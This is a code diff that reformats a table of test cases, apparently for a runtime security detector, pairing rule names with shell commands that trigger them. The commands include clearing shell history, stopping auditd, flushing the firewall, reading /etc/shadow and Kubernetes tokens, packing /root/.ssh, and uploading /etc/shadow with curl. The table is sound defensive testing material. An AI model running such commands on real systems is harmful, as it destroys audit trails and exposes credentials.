@@ -70,7 +70,8 @@ import os
 fd = os.open('/srv/copy', os.O_RDONLY)
 os.unlink('/srv/copy')
 os.execve(fd, ['x'], {})" """),
-    Act("Log or shell history emptied", "sh -c ': >/root/.bash_history'", preparation="echo x >/root/.bash_history"),
+    Act("Log or shell history emptied",
+        "sh -c ': >/root/.bash_history'", preparation="echo x >/root/.bash_history"),
     Act("Security or logging service stopped", "call systemctl stop auditd"),
     Act("Firewall emptied or switched off", "call iptables -F"),
     Act("SELinux, AppArmor or auditing switched off", "call setenforce 0"),
@@ -85,10 +86,12 @@ os.execve(fd, ['x'], {})" """),
     Act("Log wiped with a secure deletion tool", "call shred -u /var/log/x"),
     Act("File made immutable", "call chattr +i /srv/x"),
     # -- credential access
-    Act("Credential file read by an unexpected program", "ln -s /etc/shadow /srv/innocent; cat /srv/innocent"),
+    Act("Credential file read by an unexpected program",
+        "ln -s /etc/shadow /srv/innocent; cat /srv/innocent"),
     Act("Connection to the cloud metadata service",
         "serve 169.254.169.254 80; curl -s -m 1 http://169.254.169.254/ || true; kill $server"),
-    Act("Service account token read by hand", "cat /run/secrets/kubernetes.io/serviceaccount/token", True, r"""
+    Act("Service account token read by hand",
+        "cat /run/secrets/kubernetes.io/serviceaccount/token", True, r"""
 mkdir -p /run/secrets/kubernetes.io/serviceaccount/..1
 echo x >/run/secrets/kubernetes.io/serviceaccount/..1/token
 ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
@@ -98,7 +101,8 @@ ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
         preparation="mkdir -p /root/.aws; echo x >/root/.aws/credentials"),
     Act("Search for credentials in files", "find /srv -name id_ed25519"),
     Act("Memory of a process taken", "sleep 5 & python3 -c \"open('/proc/$!/mem')\"; kill $!"),
-    Act("Environment of another process read by hand", "sleep 5 & cat /proc/$!/environ >/dev/null; kill $!"),
+    Act("Environment of another process read by hand",
+        "sleep 5 & cat /proc/$!/environ >/dev/null; kill $!"),
     Act("Packet capture started", "call tcpdump -i any"),
     Act("Connection to etcd by an unexpected program",
         "serve 127.0.0.1 2379; curl -s -m 1 http://127.0.0.1:2379/ || true; kill $server"),
@@ -118,7 +122,8 @@ ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
     Act("Container runtime's socket used from the command line",
         "curl -s --unix-socket /run/no/docker.sock http://x/ || true"),
     # -- collection
-    Act("Directory with credentials packed", "tar cf /tmp/x.tar /root/.ssh", preparation="mkdir -p /root/.ssh"),
+    Act("Directory with credentials packed",
+        "tar cf /tmp/x.tar /root/.ssh", preparation="mkdir -p /root/.ssh"),
     Act("Keyboard or other input device opened", "cat /dev/input/event9",
         preparation="mkdir -p /dev/input; mount -t tmpfs none /dev/input; : >/dev/input/event9"),
     Act("Tracer attached to a running process", "call strace -f -p 1"),
@@ -136,9 +141,12 @@ ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
     Act("Connection to a Tor port",
         "serve 127.0.0.1 9050; curl -s -m 1 http://127.0.0.1:9050/ || true; kill $server"),
     # -- exfiltration
-    Act("Credential or key handed to an upload tool", "curl -s -m 1 -F f=@/etc/shadow http://127.0.0.1:1/ || true"),
-    Act("Transfer with a public file-drop or paste site", "call wget -qO- https://pastebin.com/raw/x"),
-    Act("Cloud storage tool started where it is not expected", "fake /tmp/rclone; /tmp/rclone copy /srv x:y"),
+    Act("Credential or key handed to an upload tool",
+        "curl -s -m 1 -F f=@/etc/shadow http://127.0.0.1:1/ || true"),
+    Act("Transfer with a public file-drop or paste site",
+        "call wget -qO- https://pastebin.com/raw/x"),
+    Act("Cloud storage tool started where it is not expected",
+        "fake /tmp/rclone; /tmp/rclone copy /srv x:y"),
     Act("Files copied out of a container through the API", r"""
 cp /usr/bin/bash /usr/local/bin/runc
 /usr/local/bin/runc -c 'tar cf /dev/null /etc/hostname; true'""", True),
